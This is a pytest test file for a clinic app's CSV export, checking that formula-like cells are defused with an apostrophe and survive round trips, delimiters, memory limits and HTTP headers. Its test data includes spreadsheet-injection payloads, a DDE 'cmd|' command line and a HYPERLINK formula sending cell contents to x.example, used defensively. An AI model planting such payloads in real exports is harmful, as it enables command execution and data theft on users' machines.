"""CSV no spreadsheet executes: not by our separators, nor by those of another country; and nothing is lost in it."""

import csv
import io
import re
import time
import tracemalloc
from datetime import date
from decimal import Decimal
from uuid import UUID

import pytest
import sqlalchemy as sa

from clinic.csv_answers import csv_answer
from clinic.csv_rows import PASSED_OVER, SIGNS, csv_rows, inert
from clinic.db import db
from clinic.models.patients import Patient

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\r\n"]
REST = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"x")', "", " ", "SUM(1;2)", '"', "'"]
HIDDEN = [
    "",
    " ",
    "   ",
    "\u00a0",
    "\u3000",
    "\x00",
    "\x0b",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\u00ad",
    '"',
    "'",
    "''",
    "' ",
]
TEXTS = [
    "O'Brien", "Nguyễn", "李", "'quoted'", 'say "hi"', "a,b;c|d", "one\r\ntwo", "one\ntwo", "", " ", "12", "1-2", "a=b",
    "x@y.example", "note: -5", "'", "''", "'=1", "''=1", "' =1", "'\t", "e\u0301", "null",
]  # fmt: skip
INSIDE = ["{}=1+1", "{}-2", "{} @x", '{}"=1"', "{}＝1"]


def read(pieces, delimiter=","):
    """The rows as a program reads them that goes by this delimiter."""
    text = b"".join(pieces).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


# An apostrophe of ours, right before what made a program take the text for a formula.
OURS = re.compile(rf"(?:^|(?<=[;|\t\r\n]))'(?='*{PASSED_OVER}[{SIGNS}])|^'(?='*{PASSED_OVER}[\t\r\n])")


def as_it_was(cell):
    """The text that became this cell: every apostrophe of ours taken away again."""
    return OURS.sub("", cell)


def runs(cell):
    """Whether a spreadsheet might work this cell out."""
    seen = cell.lstrip(' \u00a0\u3000\x00\x0b\u200b\ufeff\u202e\u00ad"')
    return seen.startswith(tuple("=+-@＝＋－＠")) or cell.startswith(("\t", "\r", "\n"))


class TestCells:
    @pytest.mark.promise(38, "12 prefixes, each behind 15 beginnings nobody sees: the first sign is an apostrophe")
    @pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
    def test_no_text_becomes_a_formula_and_all_of_it_comes_back(self, prefix):
        texts = [hidden + prefix + rest for hidden in HIDDEN for rest in REST]
        rows = read(csv_rows(["said"], [[text] for text in texts]))[1:]
        assert len(rows) == len(texts)
        for text, (cell,) in zip(texts, rows, strict=True):
            assert cell.startswith("'") and not runs(cell)
            assert as_it_was(cell) == text

    @pytest.mark.parametrize("text", TEXTS, ids=repr)
    def test_every_other_text_comes_back_as_it_is(self, text):
        assert as_it_was(read(csv_rows(["said"], [["before", text, "after"]]))[1][1]) == text

    @pytest.mark.parametrize("text", [each for each in TEXTS if not runs(each.lstrip("' "))], ids=repr)
    def test_and_is_not_changed_at_all(self, text):
        assert inert(text) == text

    @pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n", "|"], ids=repr)
    @pytest.mark.parametrize("shape", INSIDE)
    def test_nor_does_it_for_a_program_that_splits_elsewhere(self, separator, shape):
        text = "first" + shape.format(separator)
        pieces = list(csv_rows(["a", "b"], [["x", text]]))
        for row in read(pieces, delimiter=separator if len(separator) == 1 and separator not in "\r\n" else ";"):
            assert not any(runs(cell) for cell in row), row
        assert as_it_was(read(pieces)[1][1]) == text

    def test_a_number_of_ours_stays_one_and_a_typed_one_is_text(self):
        values = [-5, 5, Decimal("-1.50"), -0.5, "-5", "+44 20 7946 0123"]
        assert [inert(each) for each in values] == ["-5", "5", "-1.50", "-0.5", "'-5", "'+44 20 7946 0123"]

    @pytest.mark.parametrize("many", [" ", "\x0b", '"', "'", ";", "; ", "\n", "a;"], ids=repr)
    def test_no_text_takes_long_to_look_at(self, many):
        # Looked at over and over from each place, it would take minutes; a busy machine costs no time of one's own.
        began = time.thread_time()
        inert(many * 20_000 + "x")
        assert time.thread_time() - began < 5

    def test_nothing_dates_and_ids_are_written_plainly(self):
        assert [inert(each) for each in (None, date(2026, 11, 21), UUID(int=7), True)] == [
            "", "2026-11-21", "00000000-0000-0000-0000-000000000007", "True",
        ]  # fmt: skip

    def test_a_heading_is_no_formula_either(self):
        assert read(csv_rows(["=1+1"], []))[0] == ["'=1+1"]


class TestFile:
    def test_it_begins_with_a_byte_order_mark_and_ends_its_lines_as_the_rule_says(self):
        assert b"".join(csv_rows(["a", "b"], [["x,y", 'q"']])) == b'\xef\xbb\xbfa,b\r\n"x,y","q"""\r\n'

    def test_it_is_written_while_it_is_read_in_bounded_memory(self):
        rows = ([number, "x" * 100] for number in range(100_000))
        tracemalloc.start()
        size = sum(len(piece) for piece in csv_rows(["a", "b"], rows))
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert size > 10_000_000 and most < 1_000_000


class TestAnswer:
    def test_it_is_saved_under_its_name(self, app):
        with app.test_request_context():
            answer = csv_answer("Rose Street: “audit”", ["a"], [["ö"]])
            body = answer.get_data()
        assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert answer.headers["Content-Disposition"].startswith("attachment; filename=")
        assert answer.headers["X-Content-Type-Options"] == "nosniff" and body.decode("utf-8-sig") == "a\r\nö\r\n"

    def test_its_rows_are_read_after_the_commit_and_still_in_the_clinics_scope(self, app, cast):
        def rows():
            for name in db.session.scalars(sa.select(Patient.full_name).order_by(Patient.full_name)):
                yield [name]

        with app.test_request_context():
            db.session().enter(cast.scope)
            answer = csv_answer("patients", ["name"], rows())
            db.session.commit()
            assert read([answer.get_data()])[1:] == [["Maya Okafor"], ["Tom Baker"]]
